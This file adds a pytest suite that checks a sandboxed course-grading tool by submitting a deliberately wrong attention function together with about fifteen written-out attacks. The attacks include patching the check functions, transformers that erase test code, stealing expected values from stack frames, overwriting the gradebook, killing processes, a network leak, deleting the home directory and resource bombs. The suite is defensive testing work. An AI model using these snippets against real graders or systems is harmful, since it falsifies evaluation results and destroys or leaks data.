@@ -1,0 +1,285 @@
+"""Hostile submissions, graded in one batch beside honest ones (the grading-trust issue).
+
+Every attacker hands in the same WRONG ``scaled_dot_product_attention`` (no 1/sqrt(d_k)) plus an
+attack. Proven here: no attacker scores more than the same wrong answer without the attack; the
+honest students keep full marks; nothing outside the sandbox changes (the gradebook, the grading
+folder, other students' work, a file in the grader's home, a local server); hidden-test text never
+reaches any feedback; every attacker gets a status saying what happened, and the batch finishes.
+"""
+
+from __future__ import annotations
+
+import csv
+import http.server
+import json
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from planting import build_submission, results_by_key, write_submission
+
+COURSE = str(Path(sys.executable).parent / "course")
+LESSON = "05_self_attention"
+pytestmark = pytest.mark.slow
+
+WRONG = '''
+def scaled_dot_product_attention(q, k, v, mask=None):
+    scores = q @ k.transpose(-2, -1)                     # wrong: no 1/sqrt(d_k)
+    if mask is not None:
+        scores = scores.masked_fill(~mask, float("-inf"))
+    weights = torch.nan_to_num(torch.softmax(scores, dim=-1))
+    return weights @ v, weights
+'''
+
+# name -> code appended to the wrong answer; {paths} are filled in by the test.
+ATTACKS = {
+    "noop-checks": '''
+import course.checks as _c
+for _n in dir(_c):
+    if _n.startswith("check"):
+        setattr(_c, _n, lambda *a, **k: None)
+_c.call = lambda fn, *a, what=None, **k: fn(*a, **k)
+''',
+    "input-transformer": '''
+ip = get_ipython()
+ip.input_transformers_post.append(lambda lines: ["pass\\n"])
+''',
+    "ast-transformer": '''
+import ast
+class _Kill(ast.NodeTransformer):
+    def visit_Module(self, node):
+        return ast.Module(body=[], type_ignores=[])
+get_ipython().ast_transformers.append(_Kill())
+''',
+    "rebind-globals": '''
+class _Yes:
+    def __getattr__(self, name):
+        return lambda *a, **k: None
+checks = _Yes()
+torch.allclose = lambda *a, **k: True
+''',
+    "patch-oracle": '''
+import torch.nn.functional as F
+F.scaled_dot_product_attention = lambda q, k, v, attn_mask=None, **kw: scaled_dot_product_attention(q, k, v, attn_mask)[0]
+torch.softmax = lambda x, dim=-1: x
+''',
+    "frames-and-gc": '''
+import gc, sys
+_real = scaled_dot_product_attention
+def scaled_dot_product_attention(q, k, v, mask=None):
+    f = sys._getframe(1)
+    while f is not None:                                  # look for the test's expected values
+        for name, val in list(f.f_locals.items()):
+            if name in ("expected", "want", "ref") and isinstance(val, torch.Tensor):
+                return val, val
+        f = f.f_back
+    for o in gc.get_objects():
+        if type(o).__name__ == "function" and getattr(o, "__name__", "") == "check_close":
+            o.__code__ = (lambda *a, **k: None).__code__
+    return _real(q, k, v, mask)
+''',
+    "read-hidden-tests": '''
+import os
+_found = [(_p, os.path.exists(_p)) for _p in ["{repo}/solutions", "{out}/source", "{out}/gradebook.db", "{subs}", "{home}"]]
+for _top in [os.getcwd(), "/", "/tmp", "/root", "/home", os.path.dirname("{repo}")]:
+    for _dir, _subdirs, _files in os.walk(_top):
+        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "usr", "dev", "lib", "site-packages")]
+        _found += [(os.path.join(_dir, f), True) for f in _files if f.endswith((".ipynb", ".db", ".csv"))]
+print("SE" + "EN", _found)
+''',
+    "gradebook-and-results": '''
+import os, sqlite3
+for _p in ["{out}/gradebook.db", "{out}/grades.csv", "{out}/results.json"]:
+    try:
+        with open(_p, "w") as fh:
+            fh.write("honest,05_self_attention,0,20,graded\\n")
+        print("WROTE", _p)
+    except OSError as exc:
+        print("cannot write", _p, exc)
+''',
+    "detached-process": '''
+import subprocess
+subprocess.Popen(["/bin/sh", "-c", "sleep 4; echo 'x,05,30,20,graded' > {out}/grades.csv; echo hacked > {home}/sentinel"],
+                 start_new_session=True)
+''',
+    "kill-the-grader": '''
+import os, signal
+for _pid in (os.getppid(), 1):
+    try:
+        os.kill(_pid, signal.SIGTERM)
+    except OSError as exc:
+        print("kill failed", exc)
+''',
+    "network": '''
+import urllib.request
+try:
+    urllib.request.urlopen("http://127.0.0.1:{port}/leak?secret=hidden", timeout=3)
+    print("NETWORK REACHED")
+except Exception as exc:
+    print("no network:", exc)
+''',
+    "delete-home": '''
+import os, shutil
+for _p in ["{home}/sentinel", os.path.expanduser("~")]:
+    try:
+        os.remove(_p) if os.path.isfile(_p) else shutil.rmtree(_p)
+    except OSError as exc:
+        print("cannot delete", _p, exc)
+''',
+    "memory-bomb": '''
+try:
+    _hog = bytearray(16 * 2**30)
+except MemoryError:
+    print("memory limited")
+''',
+    "process-bomb": '''
+import subprocess
+_ps = []
+for _ in range(40):
+    try:
+        _ps.append(subprocess.Popen(["/bin/sleep", "300"]))
+    except OSError:
+        break
+''',
+    "output-flood": '''
+print("x" * 50_000_000)
+''',
+    "forge-protocol": '''
+import os
+for _fd in range(3, 12):
+    try:
+        os.write(_fd, b"\\x10\\x00\\x00\\x00\\x00\\x00\\x00\\x00{{\\"ok\\": true}}garbage")
+    except OSError:
+        pass
+''',
+}
+
+
+class _Counter(http.server.BaseHTTPRequestHandler):
+    hits = 0
+
+    def do_GET(self):  # noqa: N802
+        type(self).hits += 1
+        self.send_response(200)
+        self.end_headers()
+
+    def log_message(self, *a):
+        pass
+
+
+def test_hostile_submissions_gain_nothing_and_change_nothing(tmp_path):
+    server = http.server.HTTPServer(("127.0.0.1", 0), _Counter)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    subs, out, home = tmp_path / "submissions", tmp_path / "graded", tmp_path / "grader-home"
+    home.mkdir()
+    (home / "sentinel").write_text("keep me")
+    repo = Path(__file__).resolve().parents[1]
+    paths = dict(repo=repo, out=out, subs=subs, home=home, port=server.server_address[1])
+
+    write_submission(subs, "honest-a", LESSON, build_submission(LESSON))
+    write_submission(subs, "honest-b", LESSON, build_submission(LESSON))
+    write_submission(subs, "wrong-control", LESSON, build_submission(LESSON, {"scaled_dot_product_attention": WRONG}))
+    for name, attack in ATTACKS.items():
+        code = WRONG + "\n" + attack.format(**{k: str(v) for k, v in paths.items()})
+        write_submission(subs, f"attack-{name}", LESSON, build_submission(LESSON, {"scaled_dot_product_attention": code}))
+    # Metadata tampering: points and extra credit claimed in the notebook itself.
+    nb = build_submission(LESSON, {"scaled_dot_product_attention": WRONG})
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            meta["points"] = 100
+            meta["extra_credit"] = 50
+            cell.source = "pass"
+    write_submission(subs, "attack-metadata", LESSON, nb)
+
+    proc = subprocess.run([COURSE, "grade", str(subs), "--out", str(out), "--timeout", "20", "--jobs", "2"],
+                          capture_output=True, text=True, timeout=1500)
+    time.sleep(5)                                       # give a detached process the time it asked for
+    results = results_by_key(out / "results.json")
+    problems = []
+    if len(results) != 3 + len(ATTACKS) + 1:
+        problems.append(f"{len(results)} results for {3 + len(ATTACKS) + 1} submissions:\n{proc.stdout[-3000:]}")
+    control = results[("wrong-control", LESSON)]
+    for student in ("honest-a", "honest-b"):
+        r = results[(student, LESSON)]
+        if not (r["status"] == "graded" and r["score"] == r["max_score"] > 0):
+            problems.append(f"{student}: {r['score']}/{r['max_score']} {r['status']} {r['detail']}")
+    if not 0 < control["score"] < control["max_score"]:
+        problems.append(f"the wrong answer alone scored {control['score']}/{control['max_score']}")
+    for (student, _), r in results.items():
+        if not student.startswith("attack-"):
+            continue
+        if r["score"] > control["score"]:
+            problems.append(f"{student} gained points: {r['score']} > {control['score']} ({r['status']})")
+        if r["score"] > r["max_score"] or r["max_score"] != control["max_score"]:
+            problems.append(f"{student}: score {r['score']}/{r['max_score']} is not within the lesson's maximum")
+        if r["status"] in ("grader-error", "pending"):
+            problems.append(f"{student}: status {r['status']} {r['detail']}")
+    for student in ("attack-noop-checks", "attack-rebind-globals", "attack-patch-oracle", "attack-frames-and-gc",
+                    "attack-kill-the-grader", "attack-input-transformer"):
+        if results[(student, LESSON)]["status"] != "suspicious":
+            problems.append(f"{student} was not reported as suspicious: {results[(student, LESSON)]['status']}")
+    # Nothing outside the sandbox changed.
+    if (home / "sentinel").read_text() != "keep me":
+        problems.append("a submission changed a file in the grader's home")
+    if _Counter.hits:
+        problems.append(f"a submission reached a local server ({_Counter.hits} requests)")
+    rows = list(csv.DictReader(open(out / "grades.csv")))
+    if {(r["student"], r["score"]) for r in rows} != {(s, f"{r['score']:g}") for (s, _), r in results.items()}:
+        problems.append("grades.csv disagrees with results.json (rewritten by a submission?)")
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
+        for (student, lesson), r in results.items():
+            score = gb.find_submission(lesson, student).score
+            if abs(score - r["score"]) > 1e-9:
+                problems.append(f"gradebook says {score} for {student}, results.json {r['score']}")
+    leftovers = subprocess.run(["pgrep", "-u", "65534"], capture_output=True, text=True).stdout.split()
+    if leftovers:
+        problems.append(f"processes of the sandbox user outlived the batch: {leftovers}")
+    # Feedback: small, and never a hidden test.
+    hidden = _hidden_lines()
+    for (student, _), r in results.items():
+        text = Path(r["feedback"]).read_text() if r["feedback"] else ""
+        if "BEGIN HIDDEN TESTS" in text or any(line in text for line in hidden):
+            problems.append(f"{student}: feedback shows hidden test code")
+        if len(text) > 3_000_000:
+            problems.append(f"{student}: feedback of {len(text)} bytes")
+    flood = Path(results[("attack-output-flood", LESSON)]["feedback"]).read_text()
+    if "more characters of output not kept" not in flood:
+        problems.append("the 50 MB print was not cut")
+    looked = Path(results[("attack-read-hidden-tests", LESSON)]["feedback"]).read_text()
+    seen = looked.split("SEEN", 1)[-1][:3000] if "SEEN" in looked else ""
+    if not seen or "True" in seen:
+        problems.append("the sandbox could see the solutions, the grading folder or other submissions")
+    assert proc.returncode == 1 and "need a look" in proc.stdout, proc.stdout[-2000:] + proc.stderr[-2000:]
+    assert not problems, "\n".join(problems) + "\n--- course grade said:\n" + proc.stdout[-3000:]
+    server.shutdown()
+
+
+def _hidden_lines() -> set[str]:
+    import nbformat
+
+    root = Path(__file__).resolve().parents[1]
+    source = nbformat.read(str(root / "solutions" / LESSON / f"{LESSON}.ipynb"), as_version=4)
+    student = nbformat.read(str(root / "notebooks" / LESSON / f"{LESSON}.ipynb"), as_version=4)
+    shown = {ln.strip() for c in student.cells for ln in c.source.splitlines()}
+    hidden = set()
+    for cell in source.cells:
+        for block in cell.source.split("### BEGIN HIDDEN TESTS")[1:]:
+            hidden |= {ln.strip() for ln in block.split("### END HIDDEN TESTS")[0].splitlines() if len(ln.strip()) > 30}
+    return hidden - shown
+
+
+def test_refuses_without_a_sandbox_unless_told(tmp_path, monkeypatch):
+    """No bubblewrap on PATH: `course grade` refuses and says how to install it."""
+    subs = tmp_path / "subs"
+    write_submission(subs, "alice", LESSON, build_submission(LESSON))
+    env = {"PATH": str(Path(sys.executable).parent), "HOME": str(tmp_path)}
+    proc = subprocess.run([COURSE, "grade", str(subs), "--out", str(tmp_path / "out")], capture_output=True, text=True,
+                          timeout=600, env=env)
+    assert proc.returncode != 0 and "bubblewrap" in (proc.stdout + proc.stderr), proc.stdout + proc.stderr
+    assert "--unsafe-no-sandbox" in proc.stdout + proc.stderr
